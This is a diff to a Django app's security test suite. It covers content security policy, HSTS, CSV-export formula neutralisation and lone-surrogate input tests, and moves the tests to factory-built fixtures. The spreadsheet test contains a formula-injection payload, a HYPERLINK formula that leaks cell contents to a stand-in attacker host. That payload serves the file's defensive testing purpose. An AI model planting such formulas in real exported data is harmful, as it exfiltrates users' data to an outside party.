@@ -17,16 +17,17 @@ import pytest
 from django.test import Client
 
 from cchub.records.writes import apply
-from cchub.registry.models import Centre
 from cchub.support.models import Ticket
+from cchub.testing import factories
 from cchub.testing.helpers import PASSWORD, Api, make_user, token_for
 
-pytestmark = [pytest.mark.django_db, pytest.mark.demo]
+pytestmark = pytest.mark.django_db
 
 PAGES = ["/", "/centres/", "/centres/escape-vo/", "/services/", "/search/?q=vo", "/support/",
          "/glossary/", "/training/", "/landscape/", "/landscape/gaps/", "/accounts/login/"]
 
 
+@pytest.mark.demo  # the pages as the demo fills them
 def test_every_page_has_a_strict_policy_and_no_inline_script() -> None:
     for path in PAGES:
         response = Client().get(path)
@@ -64,7 +65,7 @@ def test_production_sends_hsts_and_keeps_cookies_secure() -> None:
 
 
 def test_spreadsheets_run_no_formula(admin_user: Any) -> None:
-    apply(Centre.objects.get(slug="escape-cc"),
+    apply(factories.centre("ESCAPE-CC"),
           {"name": "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"click\")"}, admin_user, partial=True)
     archive = zipfile.ZipFile(io.BytesIO(Client().get("/landscape/report/?format=csv").content))
     cells = [cell for name in archive.namelist()
@@ -84,6 +85,7 @@ def test_spreadsheets_run_no_formula(admin_user: Any) -> None:
     ("/api/v1/organisations", "post", '{"slug": "odd", "name": "Odd \\ud800 org"}'),
 ])
 def test_lone_surrogates_are_refused_by_name(path: str, method: str, body: str, admin_user: Any) -> None:
+    factories.centre("KIT")
     api = Api(token_for(admin_user))
     tickets = Ticket.objects.count()
     answer = api.send(method, path, raw=body, headers={"If-Match": "*"})
